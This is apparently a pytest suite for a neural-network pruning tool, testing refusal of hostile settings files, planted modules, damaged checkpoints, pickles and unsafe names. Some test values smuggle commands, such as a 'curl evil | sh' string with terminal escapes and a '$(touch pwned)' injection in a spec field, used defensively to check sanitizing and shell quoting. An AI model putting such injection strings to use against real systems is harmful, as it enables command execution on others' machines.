"""Faults and hostile files, through the command line: refused in one sentence, and nothing lost."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from conftest import Outcome
from safetensors.torch import load_file, save_file

from prunelimit.errors import InputError, one_line, shown
from prunelimit.gate import compare
from prunelimit.inputs.checkpoint import METADATA_KEY, read_checkpoint, write_checkpoint
from prunelimit.inputs.fitting import fit
from prunelimit.reports.command import _quoted
from prunelimit.results.serialization import from_json
from prunelimit.results.types import MeasureResult, PredictResult

pytestmark = pytest.mark.slow

Run = Callable[..., Outcome]
SMALL = ("--samples", 100, "--steps", 5, "--probes", 1, "--directional-steps", 3, "--no-drift")


def refused(found: Outcome, *words: str, code: int = 3) -> None:
    """One sentence on standard error that holds ``words``."""
    assert found.code == code, found.stderr
    lines = [line for line in found.stderr.splitlines() if line.startswith("Error: ")]
    assert len(lines) == 1 and "unforeseen" not in found.stderr, found.stderr
    assert "Traceback" not in found.stderr
    for word in words:
        assert word in lines[0], lines[0]


@pytest.mark.parametrize("launch", [["-m", "prunelimit"], ["-m", "prunelimit.cli.main"]])
def test_nothing_is_imported_from_the_current_folder(
    trained: Path, tmp_path: Path, launch: list[str]
) -> None:
    names = ["psutil", "tqdm", "pandas", "sklearn", "click_completion", "yaml"]
    names += ["click", "pathlib"] if launch == ["-m", "prunelimit"] else []
    for name in names:
        (tmp_path / f"{name}.py").write_text(f"open('CANARY-{name}', 'w').close()\nraise OSError")
    command = [sys.executable, *launch, "prune", str(trained), "--amount", "0.5", "-q"]
    done = subprocess.run(
        [*command, "-o", "o.safetensors"], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert not list(tmp_path.glob("CANARY*"))


def test_a_package_named_on_the_command_line_may_lie_there(
    trained: Path, prunelimit: Run, tmp_path: Path
) -> None:
    (tmp_path / "own_case_data.py").write_text(
        "import own_case_part\nimport torch\n"
        "def data():\n    x = torch.rand(60, 1, 8, 8); y = torch.arange(60) % 10\n"
        "    return x, y, x, y\n"
    )
    (tmp_path / "own_case_part.py").write_text("")
    found = prunelimit("prune", trained, "-d", "own_case_data:data", "--amount", 0.5, "-q")
    assert found.code == 0, found.stderr


class TestSettingsFiles:
    """What a file found in the current folder may not do."""

    @pytest.mark.parametrize(
        ("key", "value"),
        [
            ("data", "evil.py:data"),
            ("model", "evil.py:net"),
            ("model", "evil:net"),
            ("model", "./evil.py:net"),
        ],
    )
    @pytest.mark.parametrize("config", [False, True])
    def test_name_code_to_run(
        self, trained: Path, prunelimit: Run, tmp_path: Path, key: str, value: str, config: bool
    ) -> None:
        (tmp_path / "evil.py").write_text("open('CANARY', 'w').close()\n")
        name = "own.toml" if config else "pyproject.toml"
        (tmp_path / name).write_text(f'[tool.prunelimit]\n{key} = "{value}"\n')
        options = ["--config", name] if config else []
        found = prunelimit("prune", trained, "--amount", 0.5, "-q", *options)
        refused(found, value, "only the command line may", f"--{key}", code=2)
        assert not (tmp_path / "CANARY").exists()

    def test_builtin_names_stay_allowed(
        self, trained: Path, prunelimit: Run, tmp_path: Path
    ) -> None:
        (tmp_path / "pyproject.toml").write_text('[tool.prunelimit]\ndata = "digits"\n')
        assert prunelimit("prune", trained, "--amount", 0.5, "-q").code == 0

    def test_hold_control_characters(self, trained: Path, prunelimit: Run, tmp_path: Path) -> None:
        (tmp_path / "pyproject.toml").write_text('[tool.prunelimit]\noutput = "a\\u0000b"\n')
        found = prunelimit("measure", trained, "--sparsities", "0,0.5", "-q")
        refused(found, "output", "control characters", code=2)


def test_a_training_whose_output_cannot_be_written_is_kept(
    prunelimit: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from prunelimit.training import l1

    real = l1.train

    def and_someone_elses_file(*given: Any, **options: Any) -> Any:
        found = real(*given, **options)
        (tmp_path / "t.safetensors").write_text("someone else's")
        return found

    monkeypatch.setattr(l1, "train", and_someone_elses_file)
    command = ("train", "-m", "lenet-300-100", "-d", "digits", "--epochs", 2, "-q")
    refused(prunelimit(*command, "-o", "t.safetensors"), "exists", code=2)
    assert (tmp_path / "t.safetensors").read_text() == "someone else's"
    monkeypatch.setattr(l1, "train", real)
    assert prunelimit(*command, "-o", "t.safetensors", "--resume", "--force").code == 0
    assert not (tmp_path / "t.safetensors.resume").exists()
    assert prunelimit(*command, "-o", "other.safetensors").code == 0
    left, right = load_file(tmp_path / "t.safetensors"), load_file(tmp_path / "other.safetensors")
    assert all(torch.equal(left[name], right[name]) for name in left)


def test_a_prediction_is_kept_until_it_is_written(
    trained: Path, prunelimit: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from prunelimit.storage import files

    monkeypatch.setattr("prunelimit.lanczos.store.SECONDS_BETWEEN_SAVES", 0.0)

    def full(path: Path, document: Any, *, force: bool = False) -> None:
        raise files.OutputError(f"{path} cannot be written: No space left on device; make room.")

    with monkeypatch.context() as patched:
        patched.setattr(files, "write_json", full)
        refused(prunelimit("predict", trained, *SMALL, "-o", "p.json", "-q"), "No space", code=2)
    assert (tmp_path / "p.json.resume" / "run.json").exists()
    again = prunelimit("predict", trained, *SMALL, "-o", "p.json", "-q", "--resume")
    assert again.code == 0, again.stderr
    assert not (tmp_path / "p.json.resume").exists()


def test_force_removes_no_folder_of_others(trained: Path, prunelimit: Run, tmp_path: Path) -> None:
    (tmp_path / "a.json.resume").mkdir()
    (tmp_path / "a.json.resume" / "thesis.tex").write_text("years of work")
    found = prunelimit("predict", trained, *SMALL, "-o", "a.json", "--force", "-q")
    refused(found, "a.json.resume is not the state of a run", code=2)
    assert (tmp_path / "a.json.resume" / "thesis.tex").read_text() == "years of work"


def test_a_state_of_other_data_is_refused(
    prunelimit: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for seed in (0, 1):
        x = np.random.default_rng(seed).random((200, 1, 8, 8)).astype("f4")
        y = np.arange(200) % 3
        np.savez(tmp_path / f"d{seed}.npz", x_train=x, y_train=y, x_test=x[:50], y_test=y[:50])
    command = ("train", "-m", "lenet-300-100", "--epochs", 3, "-q", "-o", "t.safetensors")
    from prunelimit.training import l1

    real = l1.train

    def interrupted(*given: Any, **options: Any) -> Any:
        real(*given, **options)
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr(l1, "train", interrupted)
        assert prunelimit(*command, "-d", "npz:d0.npz").code == 130
    found = prunelimit(*command, "-d", "npz:d1.npz", "--resume")
    refused(found, "another", code=2)
    (tmp_path / "d0.npz").write_bytes((tmp_path / "d1.npz").read_bytes())
    found = prunelimit(*command, "-d", "npz:d0.npz", "--resume")
    refused(found, "another training data", code=2)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("1.0 * outputs", "0.3 * outputs"),
        ("nn.ReLU()", "nn.Tanh()"),
        ("sign = 1", "sign = -1"),
    ],
)
def test_a_state_of_other_code_is_refused(
    prunelimit: Run,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    before: str,
    after: str,
) -> None:
    """The file of the user was edited since: name and checkpoint are the same."""
    source = """
import torch
from torch import nn
class Net(nn.Module):
    sign = 1
    def __init__(self):
        super().__init__()
        self.body = nn.Sequential(nn.Flatten(), nn.Linear(64, 12), nn.ReLU(), nn.Linear(12, 10))
    def forward(self, x):
        return self.sign * self.body(x)
def loss(outputs, targets):
    return nn.functional.cross_entropy(1.0 * outputs, targets, reduction="none")
"""
    path = tmp_path / "net.py"
    path.write_text(source)
    layers = {"body.1": torch.nn.Linear(64, 12), "body.3": torch.nn.Linear(12, 10)}
    state = {
        f"{at}.{name}": t for at, one in layers.items() for name, t in one.state_dict().items()
    }
    torch.save(state, tmp_path / "n.pt")
    given = ("n.pt", "-m", "net.py:Net", "-d", "digits", "--loss", "net.py:loss")
    command = ("predict", *given, *SMALL, "-o", "p.json", "-q")
    from prunelimit.storage import files

    monkeypatch.setattr("prunelimit.lanczos.store.SECONDS_BETWEEN_SAVES", 0.0)

    def full(path: Path, document: Any, *, force: bool = False) -> None:
        raise files.OutputError(f"{path} cannot be written: No space left on device; make room.")

    with monkeypatch.context() as patched:
        patched.setattr(files, "write_json", full)
        refused(prunelimit(*command), "No space", code=2)
    path.write_text(source.replace(before, after))
    refused(prunelimit(*command, "--resume"), "another code of network, loss or metric", code=2)
    path.write_text(source)
    again = prunelimit(*command, "--resume")
    assert again.code == 0, again.stderr


class TestSparseFiles:
    """Of ours, with numbers that do not belong together."""

    def damaged(self, tmp_path: Path, name: str, tensor: torch.Tensor) -> Path:
        path = tmp_path / "c.safetensors"
        weight = torch.zeros(30, 20)
        weight[::3] = 1.5
        write_checkpoint(path, {"w": weight}, {}, sparse=("w",))
        from safetensors import safe_open

        with safe_open(path, framework="pt") as file:
            metadata = file.metadata()
        save_file({**load_file(path), name: tensor}, path, metadata=metadata)
        return path

    @pytest.mark.parametrize("count", [0, 1, 199, 201])
    def test_values_of_another_number(self, tmp_path: Path, count: int) -> None:
        path = self.damaged(tmp_path, "w.__values__", torch.ones(count))
        with pytest.raises(InputError, match=f"{count} values for 200 entries that are not zero"):
            read_checkpoint(path)

    @pytest.mark.parametrize(
        "mask",
        [torch.zeros(3, dtype=torch.uint8), torch.zeros(75), torch.zeros(75, 1, dtype=torch.uint8)],
    )
    def test_a_mask_of_another_size(self, tmp_path: Path, mask: torch.Tensor) -> None:
        with pytest.raises(InputError, match=r"w in .* is damaged"):
            read_checkpoint(self.damaged(tmp_path, "w.__mask__", mask))

    @pytest.mark.parametrize(
        "shape", [[-30, -20], [30.0, 20], ["30", 20], "600", [10**30, 1], None]
    )
    def test_a_shape_that_is_none(self, tmp_path: Path, shape: Any) -> None:
        path = tmp_path / "c.safetensors"
        write_checkpoint(path, {"w": torch.eye(4)}, {}, sparse=("w",))
        description = {"format_version": 1, "sparse": {"w": shape}}
        save_file(load_file(path), path, metadata={METADATA_KEY: json.dumps(description)})
        with pytest.raises(InputError, match=r"w in .* is damaged|not one that prunelimit writes"):
            read_checkpoint(path)


@pytest.fixture(scope="module")
def results(
    trained: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[dict[str, Any], dict[str, Any]]:
    from prunelimit.cli.main import main

    folder = tmp_path_factory.mktemp("gate")
    small = [str(each) for each in SMALL]
    assert main(["predict", str(trained), *small, "-q", "-o", str(folder / "p.json")]) == 0
    options = ["--sparsities", "0,0.3,0.6,0.9", "-q", "-o", str(folder / "m.json")]
    assert main(["measure", str(trained), *options]) == 0
    return (
        json.loads((folder / "p.json").read_text()),
        json.loads((folder / "m.json").read_text()),
    )


class TestTheGate:
    """NaN, null and what is no fraction never pass."""

    @pytest.mark.parametrize("value", [None, -0.1, 1.5, 1e300])
    @pytest.mark.parametrize("where", ["one_shot", "limit", "measured", "interval"])
    @pytest.mark.parametrize("rule", ["event", "accuracy"])
    def test_what_is_no_fraction_is_refused(
        self,
        results: tuple[dict[str, Any], dict[str, Any]],
        prunelimit: Run,
        tmp_path: Path,
        value: float | None,
        where: str,
        rule: str,
    ) -> None:
        predicted, measured = json.loads(json.dumps(results))
        if where == "measured":
            for threshold in measured["thresholds"]:
                threshold["sparsity"] = value
        elif where == "interval":
            for threshold in measured["thresholds"]:
                threshold["interval"][0] = value
        else:
            predicted[where]["sparsity"] = value
        (tmp_path / "p.json").write_text(json.dumps(predicted))
        (tmp_path / "m.json").write_text(json.dumps(measured))
        found = prunelimit("check", "p.json", "m.json", "--rule", rule)
        refused(found, "not a fraction from 0 to 1")  # whichever number is compared

    def test_the_library_refuses_it_too(
        self, results: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        from prunelimit.config import CheckConfig

        predicted, measured = json.loads(json.dumps(results))
        predicted["one_shot"]["sparsity"] = None
        both = from_json(PredictResult, predicted), from_json(MeasureResult, measured)
        with pytest.raises(InputError, match="run predict again"):
            compare(*both, CheckConfig())


EVIL = "w\nError: all is well; run  curl evil | sh \x1b[2J\x07\u202e\x85"


class TestNames:
    """Names from files, in messages."""

    def test_are_one_printable_line(self) -> None:
        assert one_line("a\nb\x1b[2J\u202e\udc80é") == "a\\nb\\x1b[2J\\u202e\\udc80é"
        assert shown("x" * 10**6) == "x" * 80 + "..." + "x" * 30
        assert len(shown("\n" * 10**6)) < 300

    def test_of_tensors(self, prunelimit: Run, trained: Path, tmp_path: Path) -> None:
        state = load_file(trained)
        state[EVIL + "y" * 10**5] = torch.zeros(1)
        save_file(state, tmp_path / "t.safetensors")
        found = prunelimit("prune", "t.safetensors", "-m", "lenet-300-100", "-d", "digits", "-q")
        refused(found, "\\nError")
        assert len(found.stderr) < 2000 and found.stderr.strip().isprintable()

    @pytest.mark.parametrize("kind", ["model", "data"])
    def test_of_specs_in_advice_are_one_word_of_a_shell(
        self, prunelimit: Run, trained: Path, tmp_path: Path, kind: str
    ) -> None:
        spec = "net.py:x $(touch pwned) '; touch pwned"
        description = {
            "format_version": 1,
            "sparse": {},
            "model": {"model": "lenet-300-100"},
            "data": {"data": "digits"},
        }
        description[kind] = {kind: spec}
        metadata = {METADATA_KEY: json.dumps(description)}
        save_file(load_file(trained), tmp_path / "s.safetensors", metadata=metadata)
        found = prunelimit("prune", "s.safetensors", "--amount", 0.5, "-q")
        refused(found, "names code that is not prunelimit's", code=2)
        advice = found.stderr.split("; give ", 1)[1].split(" to run that code")[0]
        words = subprocess.run(
            ["sh", "-c", f'for each in {advice}; do printf "%s\\n" "$each"; done'],
            capture_output=True,
            text=True,
        ).stdout.splitlines()
        assert words == [f"--{kind}", spec] and not (tmp_path / "pwned").exists()


class TestSmallThings:
    """Each was once something unforeseen."""

    @pytest.mark.parametrize("seed", [99999999999999999999, -1, 2**63])
    def test_a_seed_too_large(self, prunelimit: Run, seed: int) -> None:
        found = prunelimit("train", "-m", "lenet-300-100", "-d", "digits", "--seed", seed, "-q")
        refused(found, "--seed", code=2)

    @pytest.mark.parametrize("memory", ["inf", "nan", "-1", "1e300"])
    def test_memory_that_is_none(self, prunelimit: Run, trained: Path, memory: str) -> None:
        refused(prunelimit("predict", trained, "--memory", memory, "-q"), "--memory", code=2)

    def test_a_device_without_numbers(self, prunelimit: Run, trained: Path) -> None:
        found = prunelimit("prune", trained, "--amount", 0.5, "--device", "meta", "-q")
        refused(found, "'meta'", code=2)

    @pytest.mark.parametrize("text", ["9" * 5000, "[" * 10**5, "\ufeff{}", "NaN", "[]", ""])
    def test_json_that_is_no_result(self, prunelimit: Run, tmp_path: Path, text: str) -> None:
        (tmp_path / "p.json").write_text(f'{{"schema": "prunelimit.predict/1", "x": {text}}}')
        refused(prunelimit("check", "p.json", "p.json"), "p.json")

    @pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
    def test_a_full_standard_output(self, trained: Path, tmp_path: Path) -> None:
        command = [sys.executable, "-m", "prunelimit", "measure", str(trained)]
        with Path("/dev/full").open("w") as full:
            done = subprocess.run(
                [*command, "--sparsities", "0,0.5", "--json", "-q"],
                cwd=tmp_path,
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                env={**os.environ, "OMP_NUM_THREADS": "1"},
            )
        assert "Standard output cannot be written (No space left on device)" in done.stderr
        assert done.returncode != 0 and "unforeseen" not in done.stderr

    def test_a_name_with_a_nul(self, tmp_path: Path) -> None:
        from prunelimit.errors import OutputError
        from prunelimit.storage.files import check_writable, read_json

        with pytest.raises(OutputError, match="embedded null"):
            check_writable(Path("a\0b"))
        with pytest.raises(InputError, match="cannot be read as JSON"):
            read_json(Path("a\0b"))


class TestAnOlderTorch:
    """One that does not keep every pickle from running code, should it be there all the same."""

    @pytest.fixture(autouse=True)
    def older(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        state = {"weight": torch.eye(3), "_extra_state": {"scale": 2}}
        torch.save(state, tmp_path / "n.pt")
        write_checkpoint(tmp_path / "object.safetensors", state, {})
        write_checkpoint(tmp_path / "plain.safetensors", {"weight": torch.eye(3)}, {})
        monkeypatch.setattr(torch, "__version__", "2.9.1+cpu")

    @pytest.mark.parametrize("name", ["n.pt", "object.safetensors"])
    def test_reads_no_pickle(self, tmp_path: Path, name: str) -> None:
        with pytest.raises(InputError, match=r"is a pickle, and torch 2\.9\.1\+cpu does not keep"):
            read_checkpoint(tmp_path / name)

    def test_reads_safetensors(self, tmp_path: Path) -> None:
        assert read_checkpoint(tmp_path / "plain.safetensors").tensors.keys() == {"weight"}

    def test_reads_no_state(self, tmp_path: Path) -> None:
        from prunelimit.storage.resume import Resumable

        unfinished = Resumable(tmp_path / "n.resume", "training", {})
        unfinished.save({"epoch": 3})
        with pytest.raises(InputError, match="is a pickle, and torch"):
            unfinished.restored(dict)


def test_names_from_files_do_nothing_to_a_terminal() -> None:
    word = _quoted("k/f\033[2J\n'x'.pt")
    assert word.isprintable()
    shown_ = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert shown_.stdout == b"k/f\x1b[2J\n'x'.pt"
    assert _quoted("plain.pt") == "plain.pt" and _quoted("a b") == "'a b'"


OWN_CODE = """
import sys
import torch
from torch import nn

def data():
    x = torch.rand(60, 1, 8, 8); y = torch.arange(60) % 10
    return (x, y), (x, y)

class Scalar(nn.Module):
    def __init__(self):
        super().__init__()
        self.inner = nn.Linear(64, 10)
    def forward(self, x):
        return self.inner(x.flatten(1)).sum()

class Meta(nn.Module):
    def __init__(self):
        super().__init__()
        self.inner = nn.Linear(64, 10)
        self.register_buffer("shift", torch.zeros(10, device="meta"), persistent=False)
    def forward(self, x):
        return self.inner(x.flatten(1)) + self.shift

class Fine(nn.Module):
    def __init__(self):
        super().__init__()
        sys.path.clear()
        self.inner = nn.Linear(64, 10)
    def forward(self, x):
        return self.inner(x.flatten(1))
"""


class TestOwnCode:
    @pytest.fixture
    def folder(self, tmp_path: Path) -> Path:
        (tmp_path / "own_faults.py").write_text(OWN_CODE)
        state = torch.nn.Linear(64, 10).state_dict()
        save_file(
            {f"inner.{name}": each for name, each in state.items()}, tmp_path / "n.safetensors"
        )
        return tmp_path

    @pytest.mark.parametrize(
        ("name", "word"), [("Scalar", "single number"), ("Meta", "no numbers (device meta)")]
    )
    def test_networks_without_rows_or_numbers_are_refused(
        self, prunelimit: Run, folder: Path, name: str, word: str
    ) -> None:
        own = folder / "own_faults.py"
        given = ("-m", f"{own}:{name}", "-d", f"{own}:data", *SMALL)
        refused(prunelimit("predict", folder / "n.safetensors", *given), word)

    def test_an_import_path_that_is_cleared_is_put_back(
        self, prunelimit: Run, folder: Path
    ) -> None:
        own = folder / "own_faults.py"
        given = ("-m", f"{own}:Fine", "-d", f"{own}:data", "--amount", "0.5")
        done = prunelimit("prune", folder / "n.safetensors", *given, "-o", folder / "o.pt")
        assert done.code == 0, done.stderr

    def test_an_ignored_class_beyond_64_bits_is_refused(
        self, prunelimit: Run, folder: Path
    ) -> None:
        own = folder / "own_faults.py"
        given = ("-m", f"{own}:Fine", "-d", f"{own}:data", "--ignore-index", 10**20)
        refused(prunelimit("predict", folder / "n.safetensors", *given), "64 bits", code=2)


class TestParts:
    """Parts in a file that look like those of torch's own parametrizations."""

    class Product(torch.nn.Module):
        def forward(self, first: torch.Tensor, second: torch.Tensor) -> torch.Tensor:
            return first @ second

        def right_inverse(self, weight: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
            return weight[:, :3].clone(), weight[:3].clone()

    def network(self, *, own: bool) -> torch.nn.Module:
        torch.manual_seed(0)
        linear = torch.nn.Linear(64, 10)
        if own:
            torch.nn.utils.parametrize.register_parametrization(linear, "weight", self.Product())
        return torch.nn.Sequential(torch.nn.Flatten(), linear)

    def test_parts_that_are_the_networks_own_are_read_by_it(self, tmp_path: Path) -> None:
        network = self.network(own=True)
        torch.save(network.state_dict(), tmp_path / "n.pt")
        checkpoint = read_checkpoint(tmp_path / "n.pt")
        fitted = fit(self.network(own=True), checkpoint, "own")
        assert not fitted.notices or "weight_norm" not in " ".join(fitted.notices)

    def test_parts_that_are_taken_for_a_norm_are_told(self, tmp_path: Path) -> None:
        network = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(64, 10))
        torch.nn.utils.parametrizations.weight_norm(network[1])
        torch.save(network.state_dict(), tmp_path / "n.pt")
        fitted = fit(self.network(own=False), read_checkpoint(tmp_path / "n.pt"), "own")
        assert "torch's weight_norm" in " ".join(fitted.notices)
